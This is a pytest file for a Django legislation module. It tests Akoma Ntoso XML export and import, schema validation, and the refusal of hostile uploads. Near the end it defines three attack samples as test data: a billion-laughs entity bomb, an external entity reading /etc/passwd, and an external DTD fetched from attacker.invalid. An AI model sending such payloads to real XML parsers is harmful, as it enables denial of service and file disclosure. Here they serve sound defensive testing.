"""Akoma Ntoso: model and national acts exported valid against the OASIS Akoma Ntoso 3.0
schema (a fixture), the fixture act imported, and hostile XML refused (entity expansion,
external entities, external DTD) with nothing stored."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
import xmlschema
from django.urls import reverse

from accord.core.errors import ValidationFailed
from accord.legislation import akn, services
from accord.legislation.models import NationalAct

FIXTURES = Path(__file__).parent / "fixtures" / "akn"
STATE = ["parliamentary_officer"]


@pytest.fixture(scope="module")
def schema() -> xmlschema.XMLSchema:
    return xmlschema.XMLSchema(str(FIXTURES / "akomantoso30.xsd"))


def test_the_fixture_is_valid_and_imports(schema, make_user):
    content = (FIXTURES / "kaz-act-2025-45.xml").read_bytes()
    schema.validate(content.decode())
    kaz = make_user("KAZ", roles=STATE)
    act = services.national_import_akn(actor=kaz, content=content)
    assert (act.owner.code, act.kind, act.language) == ("KAZ", "law", "ru")
    assert (act.frbr_work, act.enacted_on, act.in_force_on) == (
        "/akn/kz/act/2025/45",
        dt.date(2025, 2, 10),
        dt.date(2025, 7, 1),
    )
    assert act.title == "О правовой экспертизе вооружений"
    assert "проходит правовую экспертизу" in act.text
    with pytest.raises(ValidationFailed):  # the same work twice
        services.national_import_akn(actor=kaz, content=content)


def test_exports_are_valid_and_round_trip(schema, act, make_user, client):
    rus = make_user("RUS", roles=STATE)
    national = services.national_create(
        actor=rus,
        kind="law",
        title="О правовой проверке новых видов оружия",
        frbr_work="/akn/ru/act/2024/112",
        gazette="Rossiyskaya Gazeta, No. 120",
        enacted_on=dt.date(2024, 6, 1),
        in_force_on=dt.date(2025, 1, 1),
        repealed_on=dt.date(2030, 1, 1),
        text="Статья 1. Сфера применения.\nСтатья 2. Проверка.",
        release="public",
        classification=0,
    )
    client.force_login(rus)
    exported = client.get(reverse("legislation:national-akn", args=[national.pk]))
    assert exported.status_code == 200 and exported["Content-Type"].startswith("application/xml")
    schema.validate(exported.content.decode())
    data = akn.read_national_act(exported.content)
    assert (data.frbr_work, data.enacted_on, data.in_force_on, data.repealed_on) == (
        "/akn/ru/act/2024/112",
        dt.date(2024, 6, 1),
        dt.date(2025, 1, 1),
        dt.date(2030, 1, 1),
    )
    assert data.text.splitlines() == ["Статья 1. Сфера применения.", "Статья 2. Проверка."]
    for language in ("en", "ru"):
        model = client.get(reverse("legislation:act-akn", args=[act.pk]), {"lang": language})
        assert model.status_code == 200
        schema.validate(model.content.decode())
        root = akn.parse(model.content)
        eids = [e.get("eId") for e in root.iter() if e.get("eId", "").startswith("art_")]
        assert eids == ["art_1", "art_2", "art_2__para_1"]
    # Enacted, not yet in force: no entry-into-force event, and none read back.
    NationalAct.objects.filter(pk=national.pk).update(in_force_on=None, repealed_on=None)
    national.refresh_from_db()
    pending = akn.national_act_xml(national)
    schema.validate(pending.decode())
    assert akn.read_national_act(pending).in_force_on is None


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE akomaNtoso [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">
<act name="law">&lol3;</act></akomaNtoso>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE akomaNtoso [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">
<act name="law">&secret;</act></akomaNtoso>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE akomaNtoso SYSTEM "http://attacker.invalid/evil.dtd">
<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"><act name="law"/></akomaNtoso>
"""


@pytest.mark.parametrize(
    "content",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, b"<akomaNtoso", b"<other/>"],
    ids=["entity-expansion", "external-entity", "external-dtd", "malformed", "not-akn"],
)
def test_hostile_or_bad_xml_is_refused(content, make_user, client):
    kaz = make_user("KAZ", roles=STATE)
    with pytest.raises(ValidationFailed) as refused:
        services.national_import_akn(actor=kaz, content=content)
    assert "file" in refused.value.errors
    client.force_login(kaz)
    from django.core.files.uploadedfile import SimpleUploadedFile

    page = client.post(
        reverse("legislation:national-import"),
        {"file": SimpleUploadedFile("act.xml", content), "classification": 0, "release": "public"},
    )
    assert page.status_code == 400
    assert not NationalAct.objects.exists()
